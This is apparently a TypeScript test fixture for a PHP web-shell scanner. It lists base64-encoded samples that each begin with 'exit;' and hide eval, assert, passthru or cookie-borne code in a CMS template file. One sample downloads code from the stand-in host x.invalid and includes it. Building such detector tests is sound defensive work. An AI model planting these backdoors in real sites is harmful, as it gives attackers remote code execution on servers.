import type { Sample } from '../types.ts'

/** What a visitor sends, on less trodden ways to where it runs or is written. */
export const sentSamples: readonly Sample[] = [
  {
    name: 'what blogs make of eval',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgQGV2YWxfcigkX1BPU1RbJ3NiJ10pOw==',
    expect: ['php-request-code'],
  },
  {
    name: 'a name put together from the key of an array and its value',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gZigkdiwgJGspIHsgJHggPSAkayAuICR2OyAkeCgkX1BPU1RbJ3gnXSk7IH0gJGEgPSBhcnJheSgnYXNzJyA9PiAnZXJ0Jyk7IGFycmF5X3dhbGsoJGEsICdmJyk7',
    expect: ['php-request-code', 'php-hidden-call'],
  },
  {
    name: 'a name read from where the visitor says',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJHEgPSAkX0dFVFsxXTsgZmlsZV9nZXRfY29udGVudHMoJ3BocCcgLiAkcSkoJF9HRVRbMl0pOw==',
    expect: ['php-request-code'],
  },
  {
    name: 'a name read from the name of the file',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJHsnZnUnfSA9IHN1YnN0cihfX0ZJTEVfXywgLTEwLCAtNCk7ICR7J2NvJ30gPSAkX1BPU1RbJ2MnXTsgJGZ1KCRjbyk7',
    expect: ['php-hidden-call'],
  },
  {
    name: 'a program that writes itself anew as it is told',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgaWYgKGlzc2V0KCRfUkVRVUVTVFsnbiddKSkgeyBpZiAoJGYgPSBmaWxlX2dldF9jb250ZW50cyhfX0ZJTEVfXykpIHsgJGYgPSBzdHJfcmVwbGFjZSgneCcsICRfUkVRVUVTVFsnbiddLCAkZik7IGZpbGVfcHV0X2NvbnRlbnRzKF9fRklMRV9fLCAkZik7IH0gfQ==',
    expect: ['php-request-file'],
  },
  {
    name: 'fetched from elsewhere, made a program and brought in',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gdCgkYykgeyAkZiA9IHRlbXBuYW0oJy90bXAnLCAneCcpOyAkaCA9IGZvcGVuKCRmLCAndysnKTsgZndyaXRlKCRoLCAiPD9waHBcbiIgLiAkYyk7IGZjbG9zZSgkaCk7IGluY2x1ZGUgJGY7IH0gdChmaWxlX2dldF9jb250ZW50cygnaHR0cDovL3guaW52YWxpZC9jb2RlLnR4dCcpKTs=',
    expect: ['php-remote-code'],
  },
  {
    name: 'a command in a text that is run',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGYgPSAnc3lzdGVtKCJkaXIiKSc7IGFzc2VydCgkZik7',
    expect: ['php-hidden-code'],
  },
  {
    name: 'a command nothing in a few lines sets',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZWNobyBwYXNzdGhydSgkVkFSWydjb21tYW5kJ10pOw==',
    expect: ['php-request-code'],
  },
  {
    name: 'a text that is run, with a variable nothing sets in it',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJHEgPSAnd2hpbGUgKGxpc3QoJGssICR2KSA9IGVhY2goJCcgLiAkbiAuICcpKSB7IGVjaG8gJGs7IH0nOyBldmFsKCRxKTs=',
    expect: ['php-request-code'],
  },
  {
    name: 'what is sent hidden in one of the cookies, and run',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZm9yZWFjaCAoJF9DT09LSUUgYXMgJGsgPT4gJHYpIHsgJGQgPSBiYXNlNjRfZGVjb2RlKCR2KTsgZXZhbCgkZCk7IH0=',
    expect: ['php-request-code'],
  },
  {
    name: 'evaluates what is sent, written otherwise',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZXZhbChiYXNlNjRfZW5jb2RlKCRfUE9TVFsneCddKSk7',
    expect: ['php-request-code'],
  },
]
